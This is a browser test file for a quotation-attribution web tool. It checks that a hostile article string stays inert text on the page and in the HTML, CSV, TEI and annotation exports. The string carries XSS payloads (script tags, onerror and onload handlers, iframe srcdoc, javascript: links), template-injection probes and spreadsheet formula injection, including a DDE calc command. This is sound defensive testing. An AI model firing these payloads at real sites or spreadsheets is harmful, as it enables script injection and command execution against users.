// An article that tries everything is plain text wherever it is shown: on the page, in the report, in every export as a
// browser opens it.

import { strict as assert } from "node:assert";
import { after, before } from "node:test";
import { articleText, launch, read } from "./browser.mjs";
import { button, pageTests, saved } from "./on-page.mjs";

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser.close());
const onPage = pageTests(() => browser);

const HOSTILE = `=HYPERLINK("http://example.test/?x="&A1) {{constructor.constructor('document.title="owned"')()}} \${7*7} <%= 7*7 %> #{7*7}

“<script>document.title='owned'</script><img src=http://example.test/x onerror="document.title='owned'">,” Ada Marsh said.

“</q></blockquote></article></main></body><iframe srcdoc='<script>parent.document.title=1</script>'></iframe>,” <b onclick=alert(1)>Ruth Adeyemi</b> told \u2066Tomas Lindqvist\u2069.

<mark data-label="PERSON" data-id="e1">Nobody</mark> [PERSON Somebody] [[q1]] ^[note] [^1] [^1]: “[x](javascript:alert(1)) ![y](http://example.test/y) \`code\`,” she said in \u202ePort Calder\u202c.

‘“((([[[{{{<<<,” he said: "]]></said></TEI><!-- --><?php echo 1 ?>" @SUM(1+1)*cmd|' /C calc'!A0 +1 -2

--- *** ___ | a | b | ~~~ <svg/onload=document.title='owned'> <a href="javascript:alert(1)">Paris</a> &lt;script&gt; &#60;script&#62; &amp;amp;`;

async function save(page, format) {
  await button(page, "Save").click();
  return (await saved(page, () => page.locator(`[data-format="${format}"]`).click())).text;
}

/** Opens a saved page in the browser, and gives what became of it. */
async function shown(html) {
  const opened = await browser.newPage();
  const asked = [];
  opened.on("request", (request) => asked.push(request.url()));
  opened.on("dialog", (dialog) => {
    asked.push("a dialog");
    dialog.dismiss();
  });
  try {
    await opened.setContent(html);
    await opened.waitForTimeout(100);
    const found = await opened.evaluate(() => ({
      title: document.title,
      text: document.querySelector("article")?.textContent,
      whole: document.body.textContent,
      active: [...document.querySelectorAll("script, img, iframe, svg, object, embed, link, form, a[href^='javascript'], [onclick], [onerror], [onload]")].map((one) => one.outerHTML),
    }));
    return { ...found, asked: asked.filter((url) => !/^(about|data):/.test(url)) };
  } finally {
    await opened.close();
  }
}

onPage("on the page", async (page) => {
  await read(page, HOSTILE);
  assert.equal(await articleText(page), HOSTILE);
  assert.equal(await page.title(), "Whosaid");
  assert.equal(await page.locator("#article :is(img, script, iframe, b, a, svg, style)").count(), 0);
  const labels = await page.locator("#article mark").evaluateAll((marks) => marks.filter((mark) => /^(PERSON )?(Somebody|Nobody)$/.test(mark.textContent)).map((mark) => mark.dataset.id));
  assert.ok(!labels.includes("e1"));
});

onPage("in the report and the exported page", async (page) => {
  await read(page, HOSTILE);
  const before = await page.title();
  for (const format of ["report", "html"]) {
    const found = await shown(await save(page, format));
    assert.deepEqual(found.active, [], format);
    assert.deepEqual(found.asked, [], format);
    assert.ok(!/^(owned|1)$/.test(found.title), format);
    assert.ok((found.text ?? found.whole).includes("<script>document.title='owned'</script>"), format);
    if (format === "html") assert.equal(found.text, HOSTILE);
  }
  assert.equal(await page.title(), before);
});

onPage("in the formats for other programs", async (page) => {
  await read(page, HOSTILE);
  for (const format of ["csv", "csv-entities"]) {
    const rows = (await save(page, format)).split("\r\n");
    // No cell begins as a formula does, inside its marks or without them.
    for (const row of rows) assert.doesNotMatch(row, /(^|,)"?[=+@\t\r-]/, format);
  }
  const tei = await save(page, "tei");
  // The page itself may not parse strings: another one reads the file back.
  const reader = await browser.newPage();
  const back = await reader.evaluate((xml) => {
    const parsed = new DOMParser().parseFromString(xml, "application/xml");
    return { fault: parsed.querySelector("parsererror")?.textContent ?? null, text: parsed.querySelector("ab").textContent, scripts: parsed.querySelectorAll("script, img, iframe, svg").length };
  }, tei);
  await reader.close();
  assert.deepEqual(back, { fault: null, text: HOSTILE, scripts: 0 });
  assert.equal(JSON.parse(await save(page, "displacy")).text, HOSTILE);
  for (const { target } of JSON.parse(await save(page, "webannotation")).items) {
    const [words, position] = target.selector;
    assert.ok(HOSTILE.includes(words.exact) && position.end > position.start);
  }
  // Plain text stays what it is; its reader decides.
  assert.ok((await save(page, "text")).includes("<script>document.title='owned'</script>"));
});
